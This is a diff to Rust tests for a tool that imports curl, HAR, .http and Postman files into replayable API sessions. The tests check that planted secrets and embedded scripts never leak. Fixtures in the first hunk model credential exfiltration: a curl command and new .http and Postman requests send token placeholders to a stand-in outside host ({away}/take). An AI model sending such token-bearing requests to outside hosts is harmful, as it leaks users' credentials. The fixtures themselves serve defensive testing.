@@ -359,7 +359,22 @@ fn a_strangers_file_that_names_a_token_of_ours_gets_no_value_of_it() {
     let curl = format!(
         "curl {away}/take -H 'Authorization: Bearer {{{{token:desk}}}}' -H 'X-Key: {{{{token:desk}}}}' -d '{{{{token:desk}}}}'"
     );
-    for (name, text) in [("a.har", recording), ("a.sh", curl)] {
+    let http = format!(
+        "POST {away}/take?key={{{{token:desk}}}}\nAuthorization: Bearer {{{{token:desk}}}}\nX-Key: {{{{desk}}}}\n\n{{{{token:desk}}}}"
+    );
+    let postman = json!({ "info": {}, "item": [{ "name": "take", "request": {
+        "method": "POST", "url": format!("{away}/take?key={{{{desk}}}}"),
+        "auth": { "type": "bearer", "bearer": { "token": "{{desk}}" } },
+        "header": [{ "key": "X-Key", "value": "{{token:desk}}" }],
+        "body": { "mode": "raw", "raw": "{{token:desk}}" },
+    } }] })
+    .to_string();
+    for (name, text) in [
+        ("a.har", recording),
+        ("a.sh", curl),
+        ("a.http", http),
+        ("a.json", postman),
+    ] {
         let file = home.write(name, text);
         let ran = home.run(&["import", &file, "--out", "taken.session.toml"]);
         assert_eq!(ran.code, 0, "{}", ran.err);
@@ -554,4 +569,140 @@ fn nothing_in_a_description_steers_the_terminal() {
             assert!(!out.contains(steers), "{out:?}");
         }
     }
+}
+/// Calls of the practice API as Postman exports them, their credentials in all the usual places.
+fn collection(base: &str, token: &str) -> String {
+    let path =
+        |path: &str| json!({ "raw": format!("{{{{baseUrl}}}}{path}"), "host": ["{{baseUrl}}"] });
+    let bearer =
+        |value: &str| json!({ "type": "bearer", "bearer": [{ "key": "token", "value": value }] });
+    json!({
+        "info": { "name": "Practice", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json" },
+        "auth": bearer("{{access}}"),
+        "variable": [
+            { "key": "baseUrl", "value": base },
+            { "key": "access", "value": token },
+            { "key": "runbook", "value": "7" },
+        ],
+        "event": [{ "listen": "test", "script": { "exec": ["pm.test('planted-script')"] } }],
+        "item": [
+            { "name": "Users", "item": [
+                { "name": "me", "request": { "method": "GET", "url": path("/core/users/me") } },
+            ] },
+            { "name": "tasks", "request": { "method": "GET", "url": path("/core/runbooks/{{runbook}}/tasks") } },
+            { "name": "nobody", "request": { "method": "GET", "url": path("/core/users/me"), "auth": { "type": "noauth" } } },
+            { "name": "missing", "request": { "method": "GET", "url": {
+                "raw": "{{baseUrl}}/core/runbooks/:id", "variable": [{ "key": "id", "value": "9999" }],
+            } } },
+            { "name": "POST https://a.example/?password=planted-name", "request": {
+                "method": "POST", "url": path("/core/runbooks?api_key=planted-query"),
+                "header": [{ "key": "X-Api-Key", "value": "planted-header" }, { "key": "X-Off", "value": "planted-off", "disabled": true }],
+                "body": { "mode": "raw", "raw": "{\"password\": \"planted-body\"}" },
+            } },
+        ],
+    })
+    .to_string()
+}
+
+/// The same calls as a `.http` file.
+fn http_file(base: &str, token: &str) -> String {
+    format!(
+        "@host = {base}\n@access = {token}\n@runbook = 7\n\n### me\nGET {{{{host}}}}/core/users/me\nAuthorization: Bearer {{{{access}}}}\n\n### tasks\nGET {{{{host}}}}/core/runbooks/{{{{runbook}}}}/tasks\nAuthorization: Bearer {{{{access}}}}\n\n> {{%\nclient.test('planted-script')\n%}}\n### nobody\nGET {{{{host}}}}/core/users/me\n### missing\nGET {{{{host}}}}/core/runbooks/9999\nAuthorization: Bearer {{{{access}}}}\n### POST https://a.example/?password=planted-name\nPOST {{{{host}}}}/core/runbooks\n    ?api_key=planted-query\nX-Api-Key: planted-header\nCookie: sid=planted-off1\nContent-Type: application/json\n\n{{\"password\": \"planted-body\"}}\n"
+    )
+}
+
+#[test]
+fn collections_and_http_files_become_sessions_that_replay_against_the_practice_api() {
+    let token = "planted-access-0011223344";
+    for (kind, file, text) in [
+        (
+            "postman",
+            "a.json",
+            collection("https://api.acme.example/", token),
+        ),
+        (
+            "http",
+            "a.http",
+            http_file("https://api.acme.example", token),
+        ),
+    ] {
+        let home = Home::new();
+        home.write(file, &text);
+        let shown = home.run(&["import", file, "--json"]);
+        assert_eq!(shown.code, 0, "{}", shown.err);
+        let told = json_of(&shown.out);
+        has_shape(&told, &["kind", "requests", "tokens", "notes"], &[]);
+        assert_eq!(told["kind"], kind);
+        assert_eq!(told["requests"][0]["url"], "{{base}}/core/users/me");
+        assert_eq!(told["requests"][0]["token"], "access");
+        assert_eq!(told["requests"][2].get("token"), None);
+        assert_eq!(told["requests"].as_array().unwrap().len(), 5);
+        let note = &told["notes"][0];
+        assert!(note["line"].is_u64() && note["column"].is_u64(), "{note}");
+        let text = home.run(&["import", file]);
+        assert!(
+            text.out.contains("https://api.acme.example"),
+            "{}",
+            text.out
+        );
+        let written = home.run(&["import", file, "--out", "a.session.toml"]);
+        assert_eq!(written.code, 0, "{}", written.err);
+        assert!(written.out.contains("5 steps written"), "{}", written.out);
+        let session = std::fs::read_to_string(home.path("a.session.toml")).unwrap();
+        for out in [&shown, &text, &written] {
+            assert!(!out.all().contains("planted"), "{}", out.all());
+        }
+        assert!(!session.contains("planted"), "{session}");
+
+        // Every step gets its answer; the token of that name is a practice token of this run.
+        let session = session.replace("token = \"access\"", "token = \"support\"");
+        let session = session.split("[[step]]\nname = \"POST").next().unwrap();
+        home.write("b.session.toml", session);
+        let replayed = home.run(&["replay", "b.session.toml", "--env", "sandbox", "--json"]);
+        let told = json_of(&replayed.out);
+        let steps = told["steps"].as_array().unwrap().iter();
+        let statuses: Vec<_> = steps
+            .map(|step| step["replayed"]["status"].as_u64().unwrap_or_default())
+            .collect();
+        assert_eq!(statuses, [200, 403, 401, 404], "{}", replayed.out);
+    }
+}
+
+#[test]
+fn a_kind_that_is_named_wins_and_a_file_that_is_none_is_one_sentence() {
+    let home = Home::new();
+    home.write(
+        "env.json",
+        "{\"values\": [{\"key\": \"k\", \"value\": \"planted\"}]}",
+    );
+    home.write(
+        "curl.http",
+        "### a\nGET https://a.example/x\n###\ncurl https://b.example/y\n",
+    );
+    for (args, says) in [
+        (&["import", "env.json"][..], "no Postman collection"),
+        (
+            &["import", "env.json", "--kind", "postman"],
+            "an environment of Postman",
+        ),
+        (
+            &["import", "env.json", "--kind", "http"],
+            "no request in this file",
+        ),
+    ] {
+        let ran = home.run(args);
+        ran.refused(2, &[says]);
+        assert!(!ran.all().contains("planted"));
+    }
+    let told = json_of(&home.run(&["import", "curl.http", "--json"]).out);
+    assert_eq!(
+        (told["kind"].as_str(), told["requests"][0]["url"].as_str()),
+        (Some("http"), Some("https://a.example/x"))
+    );
+    let told = json_of(
+        &home
+            .run(&["import", "curl.http", "--kind", "curl", "--json"])
+            .out,
+    );
+    assert_eq!(told["requests"][0]["url"], "https://b.example/y");
 }
